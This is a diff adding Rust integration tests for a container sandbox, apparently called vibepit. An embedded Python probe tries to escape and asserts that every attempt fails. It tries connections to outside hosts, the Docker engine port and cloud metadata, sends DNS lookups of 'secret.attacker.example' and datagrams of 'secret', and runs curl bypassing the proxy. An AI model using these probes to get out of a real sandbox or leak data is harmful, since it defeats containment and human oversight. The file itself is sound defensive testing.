@@ -1,0 +1,403 @@
+//! What a program in the sandbox tries in order to get out, and what comes of each attempt.
+
+use std::fs;
+use std::net::{IpAddr, TcpListener, UdpSocket};
+
+use serde_json::{Value, json};
+
+use crate::docker::{NO_NAMES, own_addresses, reachable};
+use crate::support::{Bench, Resolver, Says, Shell, engine, require};
+
+/// Answers a list of attempts, one line each: `NAME: what came of it`.
+const PROBE: &str = r#"
+import ctypes, errno, json, socket, struct, sys
+from concurrent.futures import ThreadPoolExecutor
+
+def tried(attempt, *arguments):
+    try:
+        return attempt(*arguments)
+    except OSError as error:
+        return errno.errorcode.get(error.errno, type(error).__name__)
+
+def tcp(host, port):
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family) as connection:
+        connection.settimeout(5)
+        connection.connect((host, port))
+        return "connected"
+
+def udp(host, port):
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as connection:
+        connection.sendto(b"secret", (host, port))
+        return "sent"
+
+def named(host, port):
+    socket.getaddrinfo(host, port)
+    return "resolved"
+
+def kind(family, kind, protocol):
+    socket.socket(family, kind, protocol).close()
+    return "opened"
+
+def ask(server, port, name, over):
+    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
+    for label in name.split("."):
+        question += bytes([len(label)]) + label.encode()
+    question += struct.pack(">BHH", 0, 1, 1)
+    if over == "tcp":
+        connection = socket.create_connection((server, port), 5)
+        connection.settimeout(5)
+        connection.sendall(struct.pack(">H", len(question)) + question)
+        answer = connection.recv(4096)[2:]
+    else:
+        connection = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        connection.settimeout(5)
+        connection.sendto(question, (server, port))
+        answer = connection.recv(4096)
+    return "rcode %d answers %d" % (answer[3] & 15, struct.unpack(">H", answer[6:8])[0])
+
+def call(number, *arguments):
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.syscall(number, *arguments) < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return "done"
+
+def mount():
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) < 0:
+        raise OSError(ctypes.get_errno(), "")
+    return "done"
+
+ways = dict(tcp=tcp, udp=udp, named=named, kind=kind, ask=ask, call=call, mount=mount)
+def attempt(one):
+    name, way, arguments = one
+    return name + ": " + tried(ways[way], *arguments)
+
+# A namespace that a thread got would be that thread's own.
+with ThreadPoolExecutor(32) as attempts:
+    print(*attempts.map(attempt, json.load(sys.stdin)), sep="\n")
+"#;
+
+/// Runs the probe in a sandbox.
+pub(crate) fn probe(
+    bench: &Bench,
+    shell: &mut Shell,
+    attempts: &[(&str, &str, Value)],
+) -> Vec<(String, String)> {
+    let attempts: Vec<_> = attempts
+        .iter()
+        .map(|(name, way, how)| json!([name, way, how]))
+        .collect();
+    fs::write(bench.project().join("probe.py"), PROBE).expect("the probe");
+    let list = json!(attempts).to_string();
+    fs::write(bench.project().join("attempts.json"), list).expect("the attempts");
+    let said = shell.ask("/usr/bin/python3 probe.py < attempts.json");
+    let outcomes: Vec<_> = said
+        .lines()
+        .map(|line| line.rsplit_once(": ").unwrap_or_else(|| panic!("{said}")))
+        .map(|(name, outcome)| (name.to_owned(), outcome.to_owned()))
+        .collect();
+    assert_eq!(outcomes.len(), attempts.len(), "{said}");
+    outcomes
+}
+
+/// Nothing came of any of these.
+#[track_caller]
+pub(crate) fn all(outcomes: &[(String, String)], allowed: &[&str]) {
+    for (name, outcome) in outcomes {
+        assert!(allowed.contains(&outcome.as_str()), "{name}: {outcome}");
+    }
+}
+
+/// There is no way to it.
+const NO_WAY: [&str; 2] = ["ENETUNREACH", "EHOSTUNREACH"];
+
+pub(crate) fn pointer<'a>(value: &'a Value, path: &str) -> &'a str {
+    value
+        .pointer(path)
+        .and_then(Value::as_str)
+        .unwrap_or_else(|| panic!("{path}: {value}"))
+}
+
+/// A container's address on the session's network.
+fn address_on(container: &Value, network: &str) -> String {
+    pointer(
+        container,
+        &format!("/NetworkSettings/Networks/{network}/IPAddress"),
+    )
+    .to_owned()
+}
+
+/// Nobody knocked at a listener of the test.
+#[track_caller]
+fn untouched(listener: &TcpListener, packets: &UdpSocket) {
+    listener.set_nonblocking(true).expect("a mode");
+    packets.set_nonblocking(true).expect("a mode");
+    assert!(listener.accept().is_err(), "somebody connected");
+    assert!(packets.recv(&mut [0; 16]).is_err(), "a packet came");
+}
+
+/// CTL-010, CTL-012, CTL-013, CTL-002, CTL-003, PIV-010, PIV-014, PIV-015, DNS-027, DNS-030,
+/// IP6-034, BOX-007.
+#[test]
+fn the_sandbox_reaches_its_proxys_two_doors_and_no_other_address() {
+    if !require("docker") {
+        return;
+    }
+    let bench = Bench::new(NO_NAMES);
+    let mut shell = bench.shell(&[]);
+    let own = bench.session();
+    // Another session of the same person, whose proxy and sandbox are neighbours of nobody.
+    let mut other = bench.shell(&["--name", "other"]);
+    let sessions = bench.sessions();
+    let other_id = sessions
+        .iter()
+        .map(|one| pointer(one, "/id"))
+        .find(|id| *id != own);
+    let other_id = other_id.expect("the other session").to_owned();
+    let network = format!("vibepit-{own}");
+    let other_network = format!("vibepit-{other_id}");
+    let proxy = engine::inspect(&format!("{network}-proxy"));
+    let other_proxy = engine::inspect(&format!("{other_network}-proxy"));
+    let other_sandbox = engine::inspect(&format!("{other_network}-sandbox"));
+    let details = engine::get(&format!("/networks/{network}"));
+    let gateway = pointer(&details, "/IPAM/Config/0/Gateway").to_owned();
+
+    // BOX-007: the sandbox has a network of its own.
+    let sandbox = engine::inspect(&format!("{network}-sandbox"));
+    assert_eq!(pointer(&sandbox, "/HostConfig/NetworkMode"), network);
+    let networks = sandbox["NetworkSettings"]["Networks"]
+        .as_object()
+        .expect("networks");
+    assert_eq!(networks.keys().collect::<Vec<_>>(), [&network]);
+    assert_eq!(details["Internal"], true);
+
+    let listener = TcpListener::bind("0.0.0.0:0").expect("a port");
+    let port = listener.local_addr().expect("its address").port();
+    let packets = UdpSocket::bind(("0.0.0.0", port)).expect("the same port");
+    let mut attempts = vec![
+        ("the gateway", "tcp", json!([gateway, port])),
+        ("the gateway, by UDP", "udp", json!([gateway, port])),
+        (
+            "CTL-010: the engine at the gateway",
+            "tcp",
+            json!([gateway, 2375]),
+        ),
+        (
+            "the bridge's side of the proxy",
+            "tcp",
+            json!([address_on(&proxy, "bridge"), 3129]),
+        ),
+        (
+            "the bridge's side of the proxy, its door",
+            "tcp",
+            json!([address_on(&proxy, "bridge"), 3128]),
+        ),
+        (
+            "CTL-013: another session's proxy",
+            "tcp",
+            json!([address_on(&other_proxy, &other_network), 3128]),
+        ),
+        (
+            "another session's proxy on the bridge",
+            "tcp",
+            json!([address_on(&other_proxy, "bridge"), 3129]),
+        ),
+        (
+            "CTL-012: another session's sandbox",
+            "tcp",
+            json!([address_on(&other_sandbox, &other_network), 22]),
+        ),
+        (
+            "PIV-014: an address outside",
+            "tcp",
+            json!(["198.51.100.7", 443]),
+        ),
+        (
+            "DNS-027: a name server outside",
+            "tcp",
+            json!(["198.51.100.7", 853]),
+        ),
+        ("PIV-015: UDP outside", "udp", json!(["198.51.100.7", 123])),
+        (
+            "DNS-027: a name server outside, by UDP",
+            "udp",
+            json!(["198.51.100.7", 53]),
+        ),
+        ("DNS-030: mDNS", "udp", json!(["224.0.0.251", 5353])),
+        ("cloud metadata", "tcp", json!(["169.254.169.254", 80])),
+    ];
+    for (_, ip) in own_addresses() {
+        if let IpAddr::V4(v4) = ip
+            && !v4.is_loopback()
+        {
+            attempts.push(("this machine", "tcp", json!([v4.to_string(), port])));
+            attempts.push(("this machine, by UDP", "udp", json!([v4.to_string(), port])));
+            attempts.push(("CTL-010: the engine", "tcp", json!([v4.to_string(), 2375])));
+        }
+    }
+    let outcomes = probe(&bench, &mut shell, &attempts);
+    // A datagram is taken before anybody asks who would carry it. Some engines write a route to
+    // the gateway's address into the sandbox; that address is nobody's, so nothing is sent but
+    // the question for it, and no answer comes.
+    for (name, outcome) in &outcomes {
+        let taken = name.contains("UDP") || name.contains("mDNS");
+        let nowhere = NO_WAY.contains(&outcome.as_str()) || taken && outcome == "sent";
+        assert!(nowhere, "{name}: {outcome}");
+    }
+    let neighbours = shell.ask("tail -n +2 /proc/net/arp | tr -s ' ' | cut -d ' ' -f 1,4");
+    for neighbour in neighbours.lines() {
+        let proxys = neighbour.starts_with(&format!("{} ", address_on(&proxy, &network)));
+        assert!(
+            proxys || neighbour.ends_with(" 00:00:00:00:00:00"),
+            "{neighbours}"
+        );
+    }
+    untouched(&listener, &packets);
+
+    let proxy_address = address_on(&proxy, &network);
+    // CTL-002, CTL-003: of the proxy's ports two answer, and the control port is not among them.
+    let ports = [3129, 9997, 9999, 1080, 80, 443, 2375, port];
+    let attempts: Vec<_> = ports
+        .map(|port| {
+            (
+                "CTL-002, CTL-003: a port of the proxy",
+                "tcp",
+                json!([proxy_address, port]),
+            )
+        })
+        .into();
+    all(&probe(&bench, &mut shell, &attempts), &["ECONNREFUSED"]);
+    let doors = [
+        ("http", "tcp", json!([proxy_address, 3128])),
+        ("dns", "tcp", json!([proxy_address, 53])),
+    ];
+    all(&probe(&bench, &mut shell, &doors), &["connected"]);
+
+    let v6 = [
+        ("IP6-034", "tcp", json!(["2001:db8::1", 443])),
+        ("all nodes", "udp", json!(["ff02::1", 5353])),
+    ];
+    let unreachable = [
+        "ENETUNREACH",
+        "EADDRNOTAVAIL",
+        "EAFNOSUPPORT",
+        "EHOSTUNREACH",
+    ];
+    all(&probe(&bench, &mut shell, &v6), &unreachable);
+    assert_eq!(
+        shell.ask("cat /proc/net/if_inet6 2>/dev/null | grep -v ' lo$'; true"),
+        ""
+    );
+    let routes = shell.ask("tail -n +2 /proc/net/route | cut -f 3 | sort -u");
+    let IpAddr::V4(nobodys) = gateway.parse().expect("an address") else {
+        panic!("{gateway}")
+    };
+    let nobodys = format!("{:08X}", u32::from_le_bytes(nobodys.octets()));
+    for through in routes.lines() {
+        assert!(["00000000", &nobodys].contains(&through), "{routes}");
+    }
+    assert!(
+        own_addresses()
+            .iter()
+            .all(|(_, ip)| ip.to_string() != gateway)
+    );
+
+    // PIV-010: to go round the proxy is to go nowhere.
+    let direct = shell.ask("curl -sS --noproxy '*' -m 20 http://198.51.100.7/; echo $?");
+    assert!(direct.ends_with("\n7\n"), "{direct}");
+    let foreign = shell.ask("curl -sS -x http://198.51.100.7:8080 -m 20 http://a.test/; echo $?");
+    assert!(foreign.ends_with("\n7\n"), "PIV-011: {foreign}");
+
+    assert_eq!(other.ask("echo still here"), "still here\n");
+    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
+    bench.is_clean();
+}
+
+/// DNS-028, and DNS-029 with the engine's own name server.
+#[test]
+fn no_name_that_is_not_allowed_leaves_by_any_name_server() {
+    if !require("docker") {
+        return;
+    }
+    let (resolver, config) = reachable("origin.test");
+    resolver.set(
+        "secret.attacker.example",
+        Says::addresses([[198, 51, 100, 7]]),
+    );
+    let bench = Bench::new(&config);
+    let mut shell = bench.shell(&["--allow", "origin.test"]);
+    let other = bench.shell(&["--name", "other"]);
+    let network = format!("vibepit-{}", id_of(&bench, "project"));
+    let proxy = address_on(&engine::inspect(&format!("{network}-proxy")), &network);
+    let engines = probe(
+        &bench,
+        &mut shell,
+        &[
+            (
+                "DNS-028: the engine's name server",
+                "ask",
+                json!(["127.0.0.11", 53, "secret.attacker.example", "udp"]),
+            ),
+            (
+                "DNS-028: the same over TCP",
+                "ask",
+                json!(["127.0.0.11", 53, "secret.attacker.example", "tcp"]),
+            ),
+        ],
+    );
+    for (name, outcome) in &engines {
+        assert!(!outcome.ends_with("answers 1"), "{name}: {outcome}");
+    }
+    let ours = probe(
+        &bench,
+        &mut shell,
+        &[
+            (
+                "udp",
+                "ask",
+                json!([proxy, 53, "secret.attacker.example", "udp"]),
+            ),
+            (
+                "tcp",
+                "ask",
+                json!([proxy, 53, "secret.attacker.example", "tcp"]),
+            ),
+        ],
+    );
+    all(&ours, &["rcode 3 answers 0"]);
+    let other_name = format!("vibepit-{}-proxy", id_of(&bench, "other"));
+    let names = probe(
+        &bench,
+        &mut shell,
+        &[
+            ("DNS-029", "named", json!(["secret.attacker.example", 443])),
+            ("CTL-013: by its name", "named", json!([other_name, 3128])),
+            (
+                "host.docker.internal",
+                "named",
+                json!(["host.docker.internal", 80]),
+            ),
+            ("PIV-012", "named", json!(["ping.attacker.example", 7])),
+        ],
+    );
+    all(&names, &["gaierror"]);
+    assert_eq!(asked(&resolver), [""; 0]);
+    assert_eq!((shell.end().0, other.end().0), (Some(0), Some(0)));
+}
+
+fn asked(resolver: &Resolver) -> Vec<String> {
+    let questions = resolver
+        .questions()
+        .into_iter()
+        .map(|question| question.name);
+    questions.collect()
+}
+
+/// The id of a session by its name.
+fn id_of(bench: &Bench, name: &str) -> String {
+    let sessions = bench.sessions();
+    let found = sessions.iter().find(|one| one["name"] == name);
+    pointer(found.expect("the session"), "/id").to_owned()
+}
